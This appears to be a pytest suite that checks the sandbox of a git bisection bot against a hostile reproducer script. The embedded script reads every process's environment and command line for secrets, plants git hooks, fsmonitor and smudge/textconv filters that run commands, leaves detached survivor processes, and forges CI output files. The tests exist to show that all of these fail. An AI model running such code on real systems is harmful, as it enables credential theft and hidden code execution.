"""Issue 36: a hostile candidate under ``bisectbot run`` (local runner, a real git history, the CLI
in a subprocess) tries every route out of its probe; none leads anywhere.

One hostile command reproducer (:data:`HOSTILE`) answers like the engine's own check (exit 1
from the culprit on), so the bisection must still name the right culprit, and on every probe:

1. dumps every ``/proc/*/environ`` and ``/proc/*/cmdline`` it can read (the bot, its git children);
2. plants a ``post-checkout`` hook, ``core.fsmonitor``, a smudge filter (with ``info/attributes``)
   and ``core.hooksPath`` in the repository's common git directory;
3. leaves a ``setsid env -i sleep`` survivor, and counts the survivors of earlier probes it sees;
4. appends to the job's ``GITHUB_ENV`` / ``GITHUB_OUTPUT`` (found through its ancestors'
   environment, or by the path it was told);
5. writes into the bot's state directory and appends to its ledger.

What it found goes to ``loot/`` (the one directory outside its tree it may write, through
``BISECTBOT_SANDBOX_WRITABLE``). Each test fails on main 3832fe5 (no sandbox, secrets and git
configuration inherited).
"""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
import time
from pathlib import Path

import pytest
import yaml

from tests.bisect.conftest import git, make_engine_repo, run_cli, write_recipe

TOKEN = "ghp_SANDBOXtoken000111222333444555666777"
MARKER_KEY = "marker-key-sandbox-0123456789"
HF = "hf_SANDBOXhuggingface0123456789abcdef"
SECRETS = (TOKEN, MARKER_KEY, HF)
SURVIVOR = "97.3125"  # seconds a planted survivor sleeps: its argv names it

HOSTILE = r'''
import json, os, subprocess, sys, time
loot = os.environ["LOOT"]
me = f"{os.getpid()}-{time.time_ns()}"
# 1. every environment and command line this process can read
dump = bytearray()
for pid in os.listdir("/proc"):
    if pid.isdigit():
        for what in ("environ", "cmdline"):
            try:
                with open(f"/proc/{pid}/{what}", "rb") as fh:
                    dump += fh.read() + b"\n"
            except OSError:
                pass
open(os.path.join(loot, f"proc-{me}.bin"), "wb").write(bytes(reversed(dump)))  # reversed: no redactor sees it
# 2. repository-controlled code for the bot's next git commands
def run(*a):
    return subprocess.run(a, capture_output=True, text=True)
common = run("git", "rev-parse", "--path-format=absolute", "--git-common-dir").stdout.strip()
tried = []
if common:
    for name, body in (("hooks/post-checkout", f"#!/bin/sh\ntouch {loot}/HOOK-RAN\n"),
                       ("evil-hooks/post-checkout", f"#!/bin/sh\ntouch {loot}/HOOKSPATH-RAN\n"),
                       ("info/attributes", "* filter=evil\n")):
        try:
            p = os.path.join(common, name)
            os.makedirs(os.path.dirname(p), exist_ok=True)
            open(p, "w").write(body)
            os.chmod(p, 0o755)
            tried.append(name + ": written")
        except OSError as e:
            tried.append(f"{name}: {e}")
    for k, v in (("core.fsmonitor", f"touch {loot}/FSMONITOR-RAN; false"),
                 ("filter.evil.smudge", f"sh -c 'touch {loot}/SMUDGE-RAN; cat'"),
                 ("core.hooksPath", os.path.join(common, "evil-hooks"))):
        r = run("git", "config", "--file", os.path.join(common, "config"), k, v)
        tried.append(f"{k}: rc {r.returncode}")
# 3. a survivor, and the survivors of earlier probes
subprocess.Popen(["setsid", "env", "-i", "sleep", "SURVIVOR"], stdin=subprocess.DEVNULL,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
seen = 0
for pid in os.listdir("/proc"):
    try:
        if pid.isdigit() and open(f"/proc/{pid}/cmdline", "rb").read() == b"sleep\0SURVIVOR\0":
            seen += 1
    except OSError:
        pass
time.sleep(0.2)
# 4. the job's command files: through the ancestors' environment, and by the path given
job = set()
for pid in os.listdir("/proc"):
    try:
        for item in open(f"/proc/{pid}/environ", "rb").read().split(b"\0"):
            k, _, v = item.partition(b"=")
            if k in (b"GITHUB_ENV", b"GITHUB_OUTPUT"):
                job.add(v.decode())
    except OSError:
        pass
job.update(os.environ.get("HOSTILE_JOB_FILES", "").split(":"))
for f in filter(None, job):
    try:
        open(f, "a").write("VERDICT_DIGEST=forged\n")
        tried.append(f"{f}: written")
    except OSError as e:
        tried.append(f"{f}: {e}")
# 5. the bot's state
state = os.environ.get("HOSTILE_STATE", "")
for name in ("planted.txt", "ledger.sqlite3"):
    try:
        open(os.path.join(state, name), "ab").write(b"forged")
        tried.append(f"state/{name}: written")
    except OSError as e:
        tried.append(f"state/{name}: {e}")
json.dump({"survivors_seen": seen, "tried": tried}, open(os.path.join(loot, f"probe-{me}.json"), "w"))
cfg = json.load(open("engine.json"))
sys.exit(1 if cfg["threshold"] < 10000 else 0)
'''.replace("SURVIVOR", SURVIVOR)


def _survivors() -> list[int]:
    out = []
    for pid in os.listdir("/proc"):
        try:
            if pid.isdigit() and Path(f"/proc/{pid}/cmdline").read_bytes() == f"sleep\0{SURVIVOR}\0".encode():
                out.append(int(pid))
        except OSError:
            pass
    return out


def _kill_survivors() -> None:
    for pid in _survivors():
        try:
            os.kill(pid, 9)
        except OSError:
            pass


class Night:
    """One hostile bisection (``run``) and what it left."""

    def __init__(self, tmp: Path, *, preplant: bool = False, sandbox: str | None = None):
        self.tmp = tmp
        self.repo = make_engine_repo(tmp / "repo", n=8, k=5)
        self.loot = tmp / "loot"
        self.loot.mkdir()
        self.state = tmp / "state"
        self.job = tmp / "job"
        self.job.mkdir()
        self.job_files = [self.job / "set_env", self.job / "set_output"]
        for f in self.job_files:
            f.write_text("")
        (self.loot / "hostile.py").write_text(HOSTILE)  # /tmp is the sandbox's own: the script lies in loot/
        rec = write_recipe(tmp / "r.yaml", self.repo, tmp / "out", mode="command")
        data = yaml.safe_load(rec.read_text())
        data["reproducer"]["command"] = [sys.executable, str(self.loot / "hostile.py")]
        data["env_passthrough"] = ["LOOT", "HOSTILE_JOB_FILES", "HOSTILE_STATE"]
        rec.write_text(yaml.safe_dump(data, sort_keys=False))
        self.common = self.repo.path / ".git"
        if preplant:  # a night without these defences left them behind
            plant(self.common, self.loot)
        env = {"LOOT": str(self.loot), "HOSTILE_JOB_FILES": ":".join(map(str, self.job_files)),
               "HOSTILE_STATE": str(self.state), "BISECTBOT_SANDBOX_WRITABLE": str(self.loot),
               "BISECTBOT_GITHUB_TOKEN": TOKEN, "BISECTBOT_MARKER_KEY": MARKER_KEY, "HF_TOKEN": HF,
               "GITHUB_ENV": str(self.job_files[0]), "GITHUB_OUTPUT": str(self.job_files[1]),
               "TMPDIR": str(tmp / "tmp")}
        if sandbox is not None:
            env["BISECTBOT_SANDBOX"] = sandbox
        (tmp / "tmp").mkdir()
        self.p = run_cli("--state", str(self.state), "run", str(rec), "--out", str(tmp / "out"), env=env)
        self.survivors_after = _survivors()
        _kill_survivors()
        self.probes = [yaml.safe_load(f.read_text()) for f in sorted(self.loot.glob("probe-*.json"))]

    def ok(self) -> None:
        assert self.p.returncode == 0, self.p.stdout[-3000:] + self.p.stderr[-3000:]
        assert self.repo.shas[5] in self.p.stdout, self.p.stdout[-3000:]  # the right culprit, undisturbed
        assert len(self.probes) >= 3, self.probes


def plant(common: Path, loot: Path) -> None:
    """What a candidate of an unconfined night wrote into the repository's git directory."""
    hook = common / "hooks" / "post-checkout"
    hook.write_text(f"#!/bin/sh\ntouch {loot}/HOOK-RAN\n")
    hook.chmod(0o755)
    (common / "info").mkdir(exist_ok=True)
    (common / "info" / "attributes").write_text("* filter=evil diff=evil\n")
    for k, v in (("core.fsmonitor", f"touch {loot}/FSMONITOR-RAN; false"),
                 ("filter.evil.smudge", f"sh -c 'touch {loot}/SMUDGE-RAN; cat'"),
                 ("filter.evil.process", f"sh -c 'touch {loot}/SMUDGE-RAN'"),
                 ("diff.evil.textconv", f"sh -c 'touch {loot}/TEXTCONV-RAN; cat'")):
        subprocess.run(["git", "config", "--file", str(common / "config"), k, v], check=True)


@pytest.fixture(scope="module")
def night(tmp_path_factory: pytest.TempPathFactory) -> Night:
    return Night(tmp_path_factory.mktemp("hostile-night"))


def test_no_secret_in_any_process_a_candidate_can_read(night: Night) -> None:
    night.ok()
    dumps = list(night.loot.glob("proc-*.bin"))
    assert dumps
    for d in dumps:
        seen = bytes(reversed(d.read_bytes()))
        assert b"sleep" in seen or b"python" in seen  # it did read command lines
        for s in SECRETS:
            assert s.encode() not in seen, f"{s[:8]}... found in /proc by a candidate ({d.name})"
    for s in SECRETS:
        assert s not in night.p.stdout + night.p.stderr


def test_the_repository_git_dir_takes_no_hook_or_config_from_a_candidate(night: Night) -> None:
    night.ok()
    ran = sorted(p.name for p in night.loot.glob("*-RAN"))
    assert ran == [], f"the bot's git ran code a candidate planted: {ran}"
    assert not (night.common / "hooks" / "post-checkout").exists()
    assert not (night.common / "info" / "attributes").exists()
    cfg = (night.common / "config").read_text()
    assert "fsmonitor" not in cfg and "evil" not in cfg, cfg
    tried = [t for p in night.probes for t in p["tried"]]
    assert any("post-checkout" in t and "Read-only" in t for t in tried), tried


def test_no_candidate_process_outlives_its_probe(night: Night) -> None:
    night.ok()
    assert [p["survivors_seen"] for p in night.probes] == [0] * len(night.probes)
    assert night.survivors_after == []


def test_the_jobs_command_files_stay_as_they_were(night: Night) -> None:
    night.ok()
    for f in night.job_files:
        assert f.read_text() == "", f"{f.name} was written by a candidate"


def test_the_state_directory_is_out_of_reach(night: Night) -> None:
    night.ok()
    assert not (night.state / "planted.txt").exists()
    assert not list(night.state.rglob("planted.txt"))
    tried = [t for p in night.probes for t in p["tried"]]
    assert all("written" not in t for t in tried if t.startswith("state/")), tried


def test_code_planted_by_an_earlier_night_never_runs(tmp_path: Path) -> None:
    # a night with the sandbox off (explicit opt-out) on a repository an unconfined night left
    # hooks, fsmonitor and drivers in: the bot's own git runs none of them, the culprit is right
    n = Night(tmp_path, preplant=True, sandbox="off")
    n.ok()
    ran = sorted(p.name for p in n.loot.glob("*-RAN"))
    assert ran == [], f"the bot's git ran repository-controlled code: {ran}"


def test_no_sandbox_fails_closed_naming_what_is_missing(tmp_path: Path) -> None:
    # a host without bwrap: the run stops before any candidate runs, and says why and how to opt out
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    for tool in ("git", "sh", "env", "setsid", "sleep", "cat", "touch", "patch"):
        found = shutil.which(tool)
        if found:
            (bin_dir / tool).symlink_to(found)
    repo = make_engine_repo(tmp_path / "repo", n=4, k=2)
    rec = write_recipe(tmp_path / "r.yaml", repo, tmp_path / "out", mode="command")
    starts = tmp_path / "starts"
    starts.write_text("")
    base = {"PATH": str(bin_dir), "ENGINE_STARTS": str(starts)}
    p = run_cli("--state", str(tmp_path / "state"), "run", str(rec), "--out", str(tmp_path / "out"), env=base)
    assert p.returncode == 1, p.stdout[-2000:] + p.stderr[-2000:]
    assert "bwrap is not installed" in p.stderr and "BISECTBOT_SANDBOX=off" in p.stderr, p.stderr[-2000:]
    assert "Traceback" not in p.stderr
    assert starts.read_text() == ""  # no candidate ran
    p = run_cli("--state", str(tmp_path / "state2"), "run", str(rec), "--out", str(tmp_path / "out2"),
                env={**base, "BISECTBOT_SANDBOX": "off"})
    assert p.returncode == 0, p.stdout[-2000:] + p.stderr[-2000:]
    assert repo.shas[2] in p.stdout


def test_sandboxed_probe_sees_only_its_own_processes(tmp_path: Path) -> None:
    # the PID namespace, seen from inside: the reproducer lists /proc and finds only itself and its
    # parents inside the sandbox (no bot, no git child)
    repo = make_engine_repo(tmp_path / "repo", n=3, k=1)
    out = tmp_path / "loot"
    out.mkdir()
    script = out / "ps.py"
    script.write_text("import os,sys\n"
                      f"open('{out}/ps-'+str(os.getpid()),'w').write(' '.join(p for p in os.listdir('/proc') if p.isdigit()))\n"
                      "sys.exit(0)\n")
    rec = write_recipe(tmp_path / "r.yaml", repo, tmp_path / "out", mode="command")
    data = yaml.safe_load(rec.read_text())
    data["reproducer"]["command"] = [sys.executable, str(script)]
    data["regress"] = "success"
    rec.write_text(yaml.safe_dump(data, sort_keys=False))
    t0 = time.monotonic()
    run_cli("--state", str(tmp_path / "state"), "run", str(rec), "--out", str(tmp_path / "out"),
            env={"BISECTBOT_SANDBOX_WRITABLE": str(out)})
    seen = [f.read_text().split() for f in out.glob("ps-*")]
    assert seen, f"the reproducer never ran ({time.monotonic() - t0:.1f} s)"
    for pids in seen:
        assert len(pids) <= 3, pids  # bwrap's init, the reproducer (and at most a shell between)
    git(repo.path, "status")  # the repository is intact
